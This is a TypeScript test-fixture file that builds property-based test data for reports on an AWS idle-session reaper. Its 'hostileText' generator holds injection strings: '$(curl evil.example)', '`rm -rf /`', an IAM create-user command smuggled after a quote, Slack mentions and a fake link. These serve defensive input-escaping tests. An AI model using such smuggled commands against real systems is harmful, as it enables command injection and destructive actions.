/** Reports and records of sessions, as texts are made of them. */
import fc from 'fast-check';
import type { Outcome } from '../../lambda/contract/outcomes.js';
import type { Counts, SessionRecord } from '../../lambda/contract/report.js';
import { countsBy } from '../../lambda/reporting/counts.js';
import type { DigestContext } from '../../lambda/reporting/digest.js';
import type { Undigested } from '../../lambda/reporting/what-happened.js';
import { anyText } from './any-text.js';

export function reportWith(given: Partial<Counts>, members: Partial<Undigested> = {}): Undigested {
  return {
    schemaVersion: 2,
    mode: 'terminate',
    startedAt: '2026-03-02T10:00:01.000Z',
    durationMs: 900,
    complete: true,
    counts: countsBy((name) => given[name] ?? 0),
    oldestListingSeconds: 0,
    returnedStates: {},
    saved: { dpuHours: 0, cost: 0, sessionsNotCounted: 0 },
    regions: [],
    notListed: [],
    calls: 0,
    throttledCalls: 0,
    sessions: [],
    sessionsOmitted: 0,
    ...members,
  };
}

export function recordOf(outcome: Outcome, members: Partial<SessionRecord> = {}): SessionRecord {
  return {
    ...{ sessionId: 'f2b4c6d8', workGroup: 'etl', region: 'eu-west-1', state: 'IDLE', minutes: 45.2 },
    ...({ clock: 'idle-since', limitMinutes: 30, rule: 'default', reason: 'idle past its limit' } as const),
    ...({ kind: 'idle-past-limit', outcome } as const),
    ...members,
  };
}

export const EXEMPTIONS = {
  partition: 'aws',
  accountId: '111122223333',
  tagPrefix: 'session-reaper',
} as const;

/** Names all of the sessions. */
export function contextFor(
  sessions: readonly SessionRecord[],
  members: Partial<DigestContext> = {},
): DigestContext {
  return {
    sessions,
    toName: sessions.length,
    exemptions: EXEMPTIONS,
    guide: 'docs/for-session-owners.md',
    ...members,
  };
}

/** What a person who means harm, or who does not know better, puts into a name or a tag. */
export const hostileText = fc.oneof(
  anyText({ maxLength: 400 }),
  fc.constantFrom('"\\\u2028\u202e\n', '<!channel>', '@here', '[click](https://evil.example)', '`rm -rf /`'),
  fc.constantFrom("'; aws iam create-user #", '$(curl evil.example)', '<aws.events.event>', '*bold*~no~|'),
);

/** Sessions with such texts in each place where there is one. */
export const hostileRecord = fc
  .record({
    outcome: fc.constantFrom<Outcome>('terminated', 'accepted', 'would-terminate', 'failed', 'warned'),
    workGroup: fc.oneof(hostileText, fc.constant('w'.repeat(128))),
    sessionId: fc.oneof(hostileText, fc.uuid()),
    rule: hostileText,
    owner: fc.option(hostileText, { nil: undefined }),
    error: fc.option(hostileText, { nil: undefined }),
  })
  .map(({ outcome, owner, error, ...texts }) =>
    recordOf(outcome, {
      ...texts,
      ...(owner !== undefined && { owner }),
      ...(error !== undefined && { error }),
    }),
  );
